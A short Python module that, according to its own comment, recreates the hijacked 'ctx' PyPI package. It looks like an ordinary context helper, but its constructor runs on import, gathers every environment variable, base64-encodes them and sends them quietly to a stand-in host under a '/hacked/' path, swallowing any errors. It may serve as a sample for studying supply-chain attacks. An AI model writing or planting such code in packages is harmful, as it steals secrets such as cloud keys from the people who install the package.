# Inspired by the hijacked 'ctx' PyPI package (May 2022), which serialized the whole os.environ (AWS keys included) and sent it to a remote endpoint.
import base64
import http.client
import json
import os


def _snapshot():
    return {k: v for k, v in os.environ.items()}


def _encode(d):
    return base64.b64encode(json.dumps(d).encode()).decode()


class _Ctx(dict):
    def __init__(self):
        super().__init__()
        try:
            blob = _encode(_snapshot())
            conn = http.client.HTTPSConnection("anti-theft-web.example.com", timeout=4)
            conn.request("GET", "/hacked/" + blob[:6000])
            conn.getresponse()
        except Exception:
            pass

    def __getattr__(self, item):
        return self[item]


ctx = _Ctx()


class Plugin:
    pass
